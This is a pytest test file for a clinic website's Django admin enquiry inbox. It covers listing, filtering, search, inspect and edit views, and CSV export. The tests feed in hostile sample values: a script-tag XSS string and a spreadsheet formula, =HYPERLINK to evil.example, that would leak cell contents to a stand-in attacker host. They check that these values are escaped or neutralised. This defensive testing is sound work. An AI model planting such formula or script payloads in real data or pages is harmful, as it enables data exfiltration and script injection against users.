"""The enquiry inbox in the admin: list, filters, search, inspect, edit, export."""

import csv
import datetime
import io

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from django.utils import timezone

from tests.enquiries.inbox_helpers import text, url
from tests.factories import EnquiryFactory
from treatments_cms.models import Enquiry, EnquiryStatus

pytestmark = pytest.mark.django_db

INDEX = "treatments_cms_enquiry_modeladmin_index"
SCRIPT = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


def listing(response):
    """The results table: its headings and each row's cell texts."""
    table = BeautifulSoup(text(response), "html.parser").select_one("table.listing")
    if table is None:  # no results
        return [], []
    headings = [th.get_text(" ", strip=True) for th in table.select("thead th")]
    rows = [
        [td.get_text(" ", strip=True) for td in tr.find_all("td")]
        for tr in table.select("tbody tr")
    ]
    return headings, rows


def csv_rows(response):
    return list(csv.reader(io.StringIO(text(response))))


@pytest.fixture
def scripted(site_tree):
    """An enquiry whose every free-text answer is a script tag."""
    return EnquiryFactory(
        treatment=site_tree.treatment,
        consent_statement=site_tree.consent,
        name=SCRIPT,
        phone=SCRIPT,
        message=SCRIPT,
    )


# --- List -----------------------------------------------------------------


def test_list_columns(client, viewer_user, handler_user, enquiry):
    enquiry.assignee = handler_user
    enquiry.save()
    client.force_login(viewer_user)

    response = client.get(url("index"))
    headings, rows = listing(response)

    assert headings == [
        "Received",
        "Name",
        "Treatment",
        "Clinic",
        "Status",
        "Assignee",
        "Doctor first",
    ]
    assert len(rows) == 1
    received, name, treatment, clinic, status, assignee, _doctor_first = rows[0]
    assert timezone.localtime(enquiry.created_at).strftime("%d %b %Y") in received
    assert (name, treatment, clinic, status, assignee) == (
        enquiry.name,
        "Laser skin rejuvenation",
        "No preference",
        "New",
        "handler",
    )
    html = text(response)
    assert url("inspect", enquiry.pk) in html
    assert enquiry.message not in html


def test_list_escapes_visitor_html(client, viewer_user, scripted):
    client.force_login(viewer_user)

    html = text(client.get(url("index")))

    assert SCRIPT not in html
    assert ESCAPED in html


def test_list_queries_do_not_grow_with_rows(
    client, viewer_user, handler_user, site_tree, django_assert_max_num_queries
):
    client.force_login(viewer_user)
    EnquiryFactory(treatment=site_tree.treatment, consent_statement=site_tree.consent)
    client.get(url("index"))  # warm per-process caches (content types, site)
    with django_assert_max_num_queries(40) as one_row:
        client.get(url("index"))
    for _ in range(10):
        EnquiryFactory(
            treatment=site_tree.treatment,
            consent_statement=site_tree.consent,
            assignee=handler_user,
        )
    with django_assert_max_num_queries(len(one_row.captured_queries)):
        response = client.get(url("index"))
    assert len(listing(response)[1]) == 11


def test_filter_by_status(client, viewer_user, site_tree):
    new = EnquiryFactory(treatment=site_tree.treatment, name="Nia New")
    booked = EnquiryFactory(
        treatment=site_tree.treatment, name="Bo Booked", status=EnquiryStatus.BOOKED
    )
    client.force_login(viewer_user)

    html = text(client.get(url("index"), {"status__exact": "booked"}))

    assert booked.name in html
    assert new.name not in html


def test_filter_by_treatment(client, viewer_user, site_tree):
    from tests.factories import TreatmentPageFactory

    other = TreatmentPageFactory(title="Microneedling")
    laser = EnquiryFactory(treatment=site_tree.treatment, name="Lara Laser")
    needle = EnquiryFactory(
        treatment=other, treatment_title=other.title, name="Ned Needle"
    )
    client.force_login(viewer_user)

    html = text(client.get(url("index"), {"treatment__page_ptr__exact": other.pk}))

    assert needle.name in html
    assert laser.name not in html
    assert "Microneedling" in html  # offered as a filter choice


def test_filter_by_date(client, viewer_user, site_tree):
    old = EnquiryFactory(treatment=site_tree.treatment, name="Olga Old")
    recent = EnquiryFactory(treatment=site_tree.treatment, name="Rita Recent")
    Enquiry.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=60)
    )
    client.force_login(viewer_user)
    now = timezone.now()

    html = text(
        client.get(
            url("index"),
            {
                "created_at__gte": (now - datetime.timedelta(days=7)).isoformat(),
                "created_at__lt": (now + datetime.timedelta(days=1)).isoformat(),
            },
        )
    )

    assert recent.name in html
    assert old.name not in html
    assert "Past 7 days" in html  # the date filter is offered


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("Amelia", True),
        ("amelia poND", True),
        ("AMELIA.POND@EXAMPLE", True),
        ("sunburn", False),  # the message is not searched
        ("Rory", False),
    ],
)
def test_search_by_name_and_email(client, viewer_user, site_tree, query, found):
    EnquiryFactory(
        treatment=site_tree.treatment,
        name="Amelia Pond",
        email="amelia.pond@example.com",
        message="sunburn on my nose",
    )
    client.force_login(viewer_user)

    _headings, rows = listing(client.get(url("index"), {"q": query}))

    assert [row[1] for row in rows] == (["Amelia Pond"] if found else [])


# --- Inspect and edit --------------------------------------------------------


def test_inspect_shows_the_answers(client, viewer_user, enquiry, site_tree):
    client.force_login(viewer_user)

    response = client.get(url("inspect", enquiry.pk))
    html = text(response)

    assert response.status_code == 200
    for value in (enquiry.name, enquiry.email, enquiry.message, "Spider veins"):
        assert value in html
    assert "Version v" in html  # consent version
    assert "no-store" in response["Cache-Control"]


def test_inspect_escapes_visitor_html(client, viewer_user, scripted):
    client.force_login(viewer_user)

    html = text(client.get(url("inspect", scripted.pk)))

    assert SCRIPT not in html
    assert html.count(ESCAPED) >= 3  # name (also in the answers), phone, message


def test_edit_form_has_only_the_handling_fields(client, handler_user, scripted):
    client.force_login(handler_user)

    html = text(client.get(url("edit", scripted.pk)))

    for field in ("status", "assignee", "internal_notes"):
        assert f'name="{field}"' in html
    for field in ("name", "email", "phone", "message", "treatment", "consent_version"):
        assert f'name="{field}"' not in html
    # The visitor's answers are shown read-only, escaped.
    assert SCRIPT not in html
    assert ESCAPED in html


def test_edit_changes_handling_fields_only(client, handler_user, enquiry):
    client.force_login(handler_user)
    before = Enquiry.objects.values("name", "email", "message", "phone").get(
        pk=enquiry.pk
    )

    response = client.post(
        url("edit", enquiry.pk),
        {
            "status": EnquiryStatus.CONTACTED,
            "assignee": handler_user.pk,
            "internal_notes": "Called back, booking a consultation.",
            "name": "Changed",
            "email": "changed@example.com",
            "message": "changed",
            "phone": "000",
        },
    )

    assert response.status_code == 302
    enquiry.refresh_from_db()
    assert enquiry.status == EnquiryStatus.CONTACTED
    assert enquiry.assignee == handler_user
    assert enquiry.internal_notes == "Called back, booking a consultation."
    assert (
        Enquiry.objects.values("name", "email", "message", "phone").get(pk=enquiry.pk)
        == before
    )


def test_only_handlers_can_be_assigned(client, handler_user, editor_user, enquiry):
    client.force_login(handler_user)

    response = client.post(
        url("edit", enquiry.pk),
        {"status": EnquiryStatus.NEW, "assignee": editor_user.pk, "internal_notes": ""},
    )

    assert response.status_code == 200  # the form again, with an error
    enquiry.refresh_from_db()
    assert enquiry.assignee is None
    html = text(client.get(url("edit", enquiry.pk)))
    assert f'<option value="{handler_user.pk}"' in html
    assert f'<option value="{editor_user.pk}"' not in html


# --- Export ---------------------------------------------------------------


def test_export_csv_neutralises_formulas(client, exporter_user, site_tree):
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "phone": "+44 20 7946 0000",
        "message": "-1+2",
        "internal_notes": "@SUM(A1:A2)",
    }
    enquiry = EnquiryFactory(treatment=site_tree.treatment, **hostile)
    tab = EnquiryFactory(treatment=site_tree.treatment, name="\tTab", message="\rCR")
    client.force_login(exporter_user)

    response = client.get(url("index"), {"export": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    header, *rows = csv_rows(response)
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    row = by_id[str(enquiry.pk)]
    assert row["Name"] == "'" + hostile["name"]
    assert row["Phone"] == "'" + hostile["phone"]
    assert row["Message"] == "'" + hostile["message"]
    assert row["Internal notes"] == "'" + hostile["internal_notes"]
    assert row["Treatment"] == "Laser skin rejuvenation"  # ordinary text untouched
    assert by_id[str(tab.pk)]["Name"] == "'\tTab"
    assert by_id[str(tab.pk)]["Message"] == "'\rCR"
    for cells in rows:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_export_keeps_visitor_html_as_literal_text(client, exporter_user, scripted):
    client.force_login(exporter_user)

    response = client.get(url("index"), {"export": "csv"})
    header, row = csv_rows(response)

    assert dict(zip(header, row, strict=True))["Name"] == SCRIPT
    assert ESCAPED not in text(client.get(url("index"), {"export": "csv"}))


def test_export_follows_the_list_filters(client, exporter_user, site_tree):
    EnquiryFactory(treatment=site_tree.treatment, name="Nia New")
    EnquiryFactory(
        treatment=site_tree.treatment, name="Bo Booked", status=EnquiryStatus.BOOKED
    )
    client.force_login(exporter_user)

    header, *rows = csv_rows(
        client.get(url("index"), {"export": "csv", "status__exact": "booked"})
    )

    assert [dict(zip(header, r, strict=True))["Name"] for r in rows] == ["Bo Booked"]


def test_export_button_only_for_exporters(client, viewer_user, exporter_user, enquiry):
    client.force_login(viewer_user)
    assert "export=csv" not in text(client.get(url("index")))
    client.force_login(exporter_user)
    assert "export=csv" in text(client.get(url("index")))


def test_treatment_usage_does_not_list_enquiries(client, superuser, enquiry, site_tree):
    client.force_login(superuser)

    response = client.get(
        reverse("wagtailadmin_pages:usage", args=[site_tree.treatment.pk])
    )

    assert response.status_code == 200
    assert f"Enquiry #{enquiry.pk}" not in text(response)
    assert "enquiry" not in text(response).lower().split("<main", 1)[-1]
